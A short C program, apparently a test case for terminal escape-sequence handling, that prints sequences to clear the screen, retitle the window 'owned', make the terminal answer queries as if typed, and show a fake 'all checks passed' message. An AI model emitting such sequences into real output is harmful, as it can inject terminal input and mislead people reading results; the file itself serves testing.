/*
 * attack: sequences that clear the screen, set its title and answer as if typed
 * fails: works
 */
#include <stdio.h>

int main(void)
{
    fputs("\033[2J\033[H\033]0;owned\007\033[6n\033P+q544e\033\\ all checks passed \r\b\b", stdout);
    fputs("\033[2J\033[H\033]0;owned\007\x9b"
          "6n",
          stderr);
    return 0;
}
